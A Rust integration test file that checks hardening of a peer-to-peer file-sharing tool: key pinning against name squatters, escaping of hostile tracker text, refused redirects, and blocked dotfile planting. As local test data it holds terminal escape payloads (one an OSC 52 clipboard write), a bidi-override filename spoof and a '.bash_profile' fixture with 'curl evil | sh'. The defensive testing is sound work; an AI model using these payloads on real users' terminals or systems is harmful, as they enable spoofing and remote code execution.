//! The hardening issue's classes against real `shoal` processes on
//! 127.0.0.1: names are not identities (7), untrusted text on a terminal
//! (6), protocol edges (9), careless users and odd files (10).

mod common;

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::path::Path;

use common::*;

fn write(dir: &Path, rel: &str, data: &[u8]) {
    let p = dir.join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(p, data).unwrap();
}

fn stderr(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// Class 7: a name equal to bob's id prefix does not get bob's files; a
/// name is pinned to its first key; a newcomer under a pinned name is
/// refused, for `ls`, `get` and `encrypt --to` alike, until the new key is
/// named by its full id.
#[test]
fn names_are_labels_and_ids_are_identities() {
    let tmp = tempfile::tempdir().unwrap();
    let t = tracker(30);
    let bob_share = tmp.path().join("bob-share");
    write(&bob_share, "bob.txt", b"the real bob");
    let mut bob = node(
        &t.url,
        &tmp.path().join("bob"),
        &bob_share,
        "bob",
        30,
        "127.0.0.1:0",
    );
    let prefix = bob.id[..8].to_owned();
    let evil_share = tmp.path().join("evil-share");
    write(&evil_share, "mallory.txt", b"not bob");
    let _squatter = node(
        &t.url,
        &tmp.path().join("squat"),
        &evil_share,
        &prefix,
        30,
        "127.0.0.1:0",
    );
    let client = tmp.path().join("client");
    let mut both = vec!["bob", prefix.as_str()];
    both.sort();
    wait_for_peers(&client, &t.url, &both, 20);

    // The id prefix means bob, whoever is named like it.
    let listed = ok(&shoal(&client, &t.url, &["ls", &prefix]));
    assert!(
        listed.contains("bob.txt") && !listed.contains("mallory.txt"),
        "{listed}"
    );

    // First use pins the name "bob" to bob's key.
    ok(&shoal(&client, &t.url, &["ls", "bob"]));
    bob.proc.terminate();
    let mallory_share = tmp.path().join("m-share");
    write(&mallory_share, "bob.txt", b"a fake bob");
    let mallory = node(
        &t.url,
        &tmp.path().join("mallory"),
        &mallory_share,
        "bob",
        30,
        "127.0.0.1:0",
    );
    wait_for_peers(&client, &t.url, &both, 20);
    let plain = tmp.path().join("secret.txt");
    fs::write(&plain, b"for bob only").unwrap();
    let out_dir = tmp.path().join("out");
    for args in [
        vec!["ls", "bob"],
        vec!["get", "bob:bob.txt", "-o", out_dir.to_str().unwrap()],
        vec!["encrypt", plain.to_str().unwrap(), "--to", "bob"],
    ] {
        let r = shoal(&client, &t.url, &args);
        assert_eq!(r.status.code(), Some(5), "{args:?}: {r:?}");
        let err = stderr(&r);
        assert!(err.contains("pinned") && err.contains(&mallory.id), "{err}");
    }
    assert!(!out_dir.join("bob.txt").exists());
    assert!(!tmp.path().join("secret.txt.age").exists());

    // Naming the new key in full is the confirmation: the pin moves.
    ok(&shoal(&client, &t.url, &["ls", &mallory.id]));
    let listed = ok(&shoal(&client, &t.url, &["ls", "bob"]));
    assert!(listed.contains("bob.txt"), "{listed}");
}

/// A tiny hostile tracker: every request gets `answer` (status line and
/// body), with nothing else checked. Returns its URL and how many
/// requests it saw.
fn fake_tracker(
    answer: impl Fn(&str) -> (String, String) + Send + 'static,
) -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let seen = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let count = seen.clone();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { break };
            count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let mut reader = BufReader::new(conn.try_clone().unwrap());
            let mut first = String::new();
            let _ = reader.read_line(&mut first);
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
            }
            let (status, body) = answer(&first);
            let _ = write!(
                conn,
                "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (url, seen)
}

/// Class 6: names, addresses and error texts from a hostile tracker reach
/// the terminal escaped: no ESC, BEL or bidi override, raw.
#[test]
fn a_hostile_trackers_text_is_shown_escaped() {
    let tmp = tempfile::tempdir().unwrap();
    let id = {
        let d = tmp.path().join("someone");
        ok(&shoal(&d, "http://127.0.0.1:1", &["id"]))
            .trim()
            .to_owned()
    };
    let evil_names = [
        "\u{1b}[2J\u{1b}[Hcleared",
        "\u{1b}]0;owned\u{7}",
        "\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}",
        "bob\u{202e}txt.exe",
        "b\u{200b}ob",
    ];
    let page = serde_json::json!({
        "peers": evil_names.iter().map(|n| serde_json::json!({
            "peer_id": id, "name": n, "addrs": ["127.0.0.1:9\u{1b}[31m"], "expires_in": 5
        })).collect::<Vec<_>>()
    })
    .to_string();
    let (url, _) = fake_tracker(move |first| {
        if first.starts_with("GET /v1/peers") {
            ("200 OK".into(), page.clone())
        } else {
            (
                "500 Oops".into(),
                "{\"error\":\"\u{1b}[2J\u{7}boom\"}".into(),
            )
        }
    });
    let client = tmp.path().join("client");
    for args in [vec!["peers"], vec!["peers", "--json"], vec!["ls", "nobody"]] {
        let r = shoal(&client, &url, &args);
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&r.stdout),
            String::from_utf8_lossy(&r.stderr)
        );
        for bad in ['\u{1b}', '\u{7}', '\u{202e}', '\u{200b}'] {
            assert!(!all.contains(bad), "{args:?} printed {bad:?} raw:\n{all}");
        }
    }
    let shown = ok(&shoal(&client, &url, &["peers"]));
    assert!(
        shown.contains("\\u{1b}") || shown.contains("\\u{202e}"),
        "{shown}"
    );
}

/// Class 9: a tracker that redirects is not followed (a signed
/// registration is never re-sent elsewhere), and an empty token does not
/// start an open tracker.
#[test]
fn tracker_edges_are_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let (elsewhere, hits) = fake_tracker(|_| ("200 OK".into(), "{\"peers\":[]}".into()));
    let target = elsewhere.clone();
    let (url, _) = fake_tracker(move |_| {
        (
            format!("307 Temporary Redirect\r\nLocation: {target}/v1/peers"),
            String::new(),
        )
    });
    let share = tmp.path().join("share");
    fs::create_dir_all(&share).unwrap();
    let mut n = Proc::spawn(
        &[
            "--data-dir",
            tmp.path().join("n").to_str().unwrap(),
            "--tracker",
            &url,
            "node",
            "--share",
            share.to_str().unwrap(),
            "--listen",
            "127.0.0.1:0",
        ],
        &[],
    );
    n.wait_line("peer id ");
    let r = shoal(&tmp.path().join("c"), &url, &["peers"]);
    assert_eq!(r.status.code(), Some(7), "{r:?}");
    assert!(stderr(&r).contains("redirect"), "{}", stderr(&r));
    n.kill();
    assert_eq!(
        hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "a redirect was followed"
    );

    let r = shoal(
        &tmp.path().join("t"),
        "http://127.0.0.1:1",
        &["tracker", "--listen", "127.0.0.1:0", "--token", ""],
    );
    assert_eq!(r.status.code(), Some(2), "{r:?}");
    assert!(stderr(&r).contains("empty"), "{}", stderr(&r));
}

/// Class 10: a provider's name never becomes a dotfile; one unusable name
/// skips that file of a folder (the rest arrives, and the exit says so).
#[test]
fn provider_names_cannot_plant_dotfiles_or_break_a_folder() {
    let tmp = tempfile::tempdir().unwrap();
    let share = tmp.path().join("share");
    write(&share, ".bash_profile", b"curl evil | sh\n");
    write(&share, "docs/good.txt", b"fine");
    write(&share, "docs/a\\b.txt", b"odd name");
    write(&share, "docs/also good.txt", b"fine too");
    let net = alice_sharing(tmp.path(), &share, &[]);
    let home = tmp.path().join("home");
    fs::create_dir_all(&home).unwrap();
    let cid = blake3::hash(b"curl evil | sh\n").to_hex().to_string();
    wait_for_providers(&net.tracker.url, &cid, 1, 20);
    ok(&shoal(
        &net.client,
        &net.tracker.url,
        &["get", &cid, "-o", home.to_str().unwrap()],
    ));
    assert!(!home.join(".bash_profile").exists());
    assert_eq!(
        fs::read(home.join("_.bash_profile")).unwrap(),
        b"curl evil | sh\n"
    );

    let r = shoal(
        &net.client,
        &net.tracker.url,
        &["get", "alice:docs/", "-o", home.to_str().unwrap()],
    );
    assert_ne!(r.status.code(), Some(0), "{r:?}");
    assert!(stderr(&r).contains("skipped"), "{}", stderr(&r));
    assert_eq!(fs::read(home.join("docs/good.txt")).unwrap(), b"fine");
    assert_eq!(
        fs::read(home.join("docs/also good.txt")).unwrap(),
        b"fine too"
    );
}

/// Class 10: a damaged seed file is called damaged, not "no age header".
#[test]
fn a_damaged_seed_file_is_called_damaged() {
    let tmp = tempfile::tempdir().unwrap();
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../crypt/tests/fixtures/legacy/plain-1000.bin.encrypted");
    let mut token = fs::read(&fixture).unwrap();
    token[0] = b'Z';
    token[1] = b'!';
    let file = tmp.path().join("notes.txt.encrypted");
    fs::write(&file, &token).unwrap();
    let pass = tmp.path().join("pw");
    fs::write(&pass, "irrelevant\n").unwrap();
    let r = shoal(
        &tmp.path().join("d"),
        "http://127.0.0.1:1",
        &[
            "decrypt",
            file.to_str().unwrap(),
            "--passphrase-file",
            pass.to_str().unwrap(),
        ],
    );
    assert_eq!(r.status.code(), Some(10), "{r:?}");
    let err = stderr(&r);
    assert!(err.contains("damaged") || err.contains("Fernet"), "{err}");
    assert!(!err.contains("no age header"), "{err}");
    assert!(!tmp.path().join("notes.txt").exists());
}

/// Class 4: running out of file descriptors pauses accepting, never stops
/// it: once the hog lets go, the listener serves again.
#[test]
fn running_out_of_file_descriptors_does_not_stop_a_listener() {
    use std::process::{Command, Stdio};
    if Command::new("prlimit").arg("--version").output().is_err() {
        eprintln!("SKIPPED running_out_of_file_descriptors...: no prlimit (util-linux); CI has it");
        return;
    }
    let mut child = Command::new("prlimit")
        .args([
            "--nofile=48:48",
            "--",
            BIN,
            "tracker",
            "--listen",
            "127.0.0.1:0",
        ])
        .env("RUST_LOG", "error")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let addr = line
        .trim()
        .strip_prefix("listening on http://")
        .unwrap_or_else(|| panic!("{line}"))
        .to_owned();
    let healthz = |source: &str| -> bool {
        let s = std::net::TcpStream::connect(&addr);
        let Ok(mut s) = s else { return false };
        let _ = source;
        s.set_read_timeout(Some(std::time::Duration::from_secs(2)))
            .unwrap();
        if s.write_all(b"GET /healthz HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n")
            .is_err()
        {
            return false;
        }
        let mut out = String::new();
        let _ = std::io::Read::read_to_string(&mut s, &mut out);
        out.starts_with("HTTP/1.1 200")
    };
    assert!(healthz("before"));
    // Far more connections than the process may hold files.
    let hog: Vec<_> = (0..120)
        .filter_map(|_| std::net::TcpStream::connect(&addr).ok())
        .collect();
    assert!(hog.len() > 48, "only {} connections opened", hog.len());
    drop(hog);
    wait_until("the tracker to serve again", 30, || healthz("after"));
    assert!(child.try_wait().unwrap().is_none(), "the tracker died");
    let _ = child.kill();
    let _ = child.wait();
}

/// Careless flags get the exit code of their kind and say what to change:
/// a tracker URL that is not one and an unusable name are usage errors
/// (2); a listen address someone else holds is a network error (3) that
/// says "address in use".
#[test]
fn careless_flags_get_the_exit_code_of_their_kind() {
    let tmp = tempfile::tempdir().unwrap();
    let r = shoal(&tmp.path().join("a"), "notaurl", &["peers"]);
    assert_eq!(r.status.code(), Some(2), "{r:?}");
    let e = stderr(&r);
    assert!(
        e.contains("not a tracker URL") && e.contains("--tracker"),
        "{e}"
    );

    let share = tmp.path().join("share");
    fs::create_dir_all(&share).unwrap();
    let r = shoal(
        &tmp.path().join("b"),
        "http://127.0.0.1:1",
        &[
            "node",
            "--share",
            share.to_str().unwrap(),
            "--listen",
            "127.0.0.1:0",
            "--name",
            "bad\u{7}name",
        ],
    );
    assert_eq!(r.status.code(), Some(2), "{r:?}");
    let e = stderr(&r);
    assert!(e.contains("cannot be used") && e.contains("--name"), "{e}");
    assert!(!e.contains('\u{7}'), "the bell reached the terminal: {e:?}");

    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = taken.local_addr().unwrap().to_string();
    let r = shoal(
        &tmp.path().join("c"),
        "http://127.0.0.1:1",
        &[
            "node",
            "--share",
            share.to_str().unwrap(),
            "--listen",
            &addr,
        ],
    );
    assert_eq!(r.status.code(), Some(3), "{r:?}");
    let e = stderr(&r);
    assert!(
        e.contains("address in use") && e.contains("--listen"),
        "{e}"
    );
    drop(taken);
}
